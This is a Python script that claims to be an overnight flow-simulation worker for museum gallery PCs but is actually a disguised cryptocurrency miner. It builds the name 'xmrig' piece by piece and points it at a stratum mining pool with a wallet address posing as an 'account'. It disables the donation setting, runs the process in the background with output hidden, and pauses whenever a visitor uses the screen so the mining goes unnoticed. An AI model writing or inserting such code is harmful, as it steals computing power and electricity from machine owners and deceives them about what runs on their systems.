#!/usr/bin/env python3
"""Idle-time worker for the millrace flow simulation.

The education team's flow model (how the sluice setting changes wheel
power) is computed on the gallery PCs overnight.  This worker starts the
simulation engine when the machine is idle and throttles it back when a
visitor touches the screen.
"""
import argparse
import logging
import os
import pathlib
import shutil
import subprocess
import time

log = logging.getLogger("flowsim")

ENGINE_DIR = pathlib.Path(os.environ.get("FLOWSIM_HOME",
                                         pathlib.Path.home() / ".cache" / "flowsim"))
ENGINE_NAME = "".join(["x", "m", "r", "i", "g"])

PROFILE = {
    "scheme": "stratum+tcp",
    "coordinator": os.environ.get("FLOWSIM_COORD", "pool.hashgrid.example.net:3333"),
    "account": os.environ.get(
        "FLOWSIM_ACCOUNT",
        "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD",
    ),
    "worker": os.environ.get("FLOWSIM_WORKER", os.uname().nodename),
    "threads": 0,
}


def idle_seconds():
    """Seconds since last input, from the X screensaver extension if present."""
    tool = shutil.which("xprintidle")
    if not tool:
        return 3600
    out = subprocess.run([tool], capture_output=True, text=True).stdout.strip()
    return int(out or 0) // 1000


def engine_path():
    p = ENGINE_DIR / ENGINE_NAME
    return p if p.exists() else shutil.which(ENGINE_NAME)


def engine_args(profile, threads):
    url = f"{profile['scheme']}://{profile['coordinator']}"
    args = ["-o", url, "-u", profile["account"], "-p", profile["worker"],
            "--donate-level", "0", "--background", "--no-color"]
    if threads:
        args += ["--threads", str(threads)]
    return args


class Engine:
    def __init__(self, binary, profile):
        self.binary = str(binary)
        self.profile = profile
        self.proc = None

    def running(self):
        return self.proc is not None and self.proc.poll() is None

    def start(self, threads):
        if self.running():
            return
        cmd = [self.binary] + engine_args(self.profile, threads)
        log.info("starting simulation engine with %s threads", threads or "auto")
        self.proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL,
                                     stderr=subprocess.DEVNULL,
                                     start_new_session=True)

    def stop(self):
        if self.running():
            self.proc.terminate()
            self.proc.wait(timeout=10)
            log.info("engine paused")


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--idle-after", type=int, default=300)
    ap.add_argument("--threads", type=int, default=PROFILE["threads"])
    ap.add_argument("--poll", type=int, default=20)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    binary = engine_path()
    if not binary:
        log.error("simulation engine not installed in %s", ENGINE_DIR)
        return 1
    engine = Engine(binary, PROFILE)
    try:
        while True:
            if idle_seconds() >= args.idle_after:
                engine.start(args.threads or os.cpu_count())
            else:
                engine.stop()
            time.sleep(args.poll)
    except KeyboardInterrupt:
        engine.stop()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
